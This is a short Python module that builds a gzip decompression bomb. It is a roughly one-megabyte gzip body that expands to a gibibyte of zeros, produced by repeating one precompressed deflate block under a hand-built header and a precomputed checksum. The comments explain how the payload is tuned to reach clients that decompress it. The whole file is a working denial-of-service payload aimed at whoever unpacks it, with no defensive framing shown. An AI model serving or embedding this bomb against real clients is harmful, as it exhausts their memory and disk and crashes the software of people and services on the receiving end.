"""A body that is small on the wire and large for whoever unpacks it."""

import zlib
from functools import cache
from struct import pack
from typing import Final

UNPACKED_BYTES: Final = 1024**3
_BLOCK_BYTES: Final = 256 * 1024
_HEADER: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
"""Deflate, no name, no time, packed as hard as can be, on no system that is known (RFC 1952, 2.3)."""
_LAST_BLOCK: Final = b"\x03\x00"
"""A final block that holds nothing."""
_CHECKSUM: Final = 0x5B64C2B0
"""CRC-32 of a gibibyte of zeros: to work it out takes half a second."""


@cache
def gzip_bomb() -> bytes:
    """Pack a gibibyte of zeros into a megabyte of gzip, in a millisecond.

    Deflate cannot pack better than 1:1032. One block that refers to nothing before it is packed, and stands
    there as often as it takes; in a single member, since not every client reads on after the first.
    """
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = deflate.compress(bytes(_BLOCK_BYTES)) + deflate.flush(zlib.Z_FULL_FLUSH)
    trailer = pack("<II", _CHECKSUM, UNPACKED_BYTES % 2**32)
    return _HEADER + block * (UNPACKED_BYTES // _BLOCK_BYTES) + _LAST_BLOCK + trailer
